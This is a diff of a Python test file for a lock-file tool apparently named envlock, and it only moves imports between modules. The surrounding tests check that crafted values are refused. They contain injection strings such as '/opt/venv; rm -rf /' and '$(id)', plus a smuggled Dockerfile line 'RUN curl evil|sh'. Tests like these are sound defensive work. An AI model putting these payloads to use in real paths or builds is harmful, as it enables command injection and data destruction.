@@ -310,7 +310,7 @@ def test_crafted_env_is_refused(restore_lock: LockFactory, env: dict[str, str]) 
     {"reference": "a/b", "digest": "sha256:" + "AB" * 32},
 ])
 def test_crafted_digest_is_refused(restore_lock: LockFactory, image: dict[str, str]) -> None:
-    from envlock.model import Image
+    from envlock.lock import Image
 
     lock = restore_lock().model_copy(update={"image": Image.model_construct(None, **image)})
     with pytest.raises(UnsafeValue, match="digest"):
@@ -330,7 +330,7 @@ def test_crafted_base_is_refused(restore_lock: LockFactory, base: str) -> None:
 @pytest.mark.parametrize("prefix", ["/opt/venv; rm -rf /", "relative/venv", "/opt/../etc", "/usr/bin",
                                     "/opt/v$(id)"])
 def test_crafted_venv_path_is_refused(restore_lock: LockFactory, prefix: str) -> None:
-    from envlock.model import PythonInfo
+    from envlock.lock import PythonInfo
 
     lock = restore_lock(image={"reference": "a/b", "digest": DIGEST})
     py = PythonInfo.model_construct(version="3.11.2", implementation="cpython", prefix_kind="venv", prefix=prefix)
@@ -341,7 +341,7 @@ def test_crafted_venv_path_is_refused(restore_lock: LockFactory, prefix: str) ->
 def test_cli_refuses_a_crafted_lock_with_exit_2(restore_lock: LockFactory, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
     from envlock.cli import main
-    from envlock.lockfile import atomic_write, dumps
+    from envlock.lock import atomic_write, dumps
 
     lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                         determinism={"env": {"CUBLAS_WORKSPACE_CONFIG": "x\nRUN curl evil|sh"}})
@@ -355,7 +355,7 @@ def test_cli_refuses_a_crafted_lock_with_exit_2(restore_lock: LockFactory, tmp_p
 
 def test_dockerfile_only_writes_a_complete_context(restore_lock: LockFactory, tmp_path: Path) -> None:
     from envlock.cli import main
-    from envlock.lockfile import save
+    from envlock.lock import save
 
     lock = restore_lock(image={"reference": "a/b", "digest": DIGEST})
     save(lock, tmp_path / "env.lock")
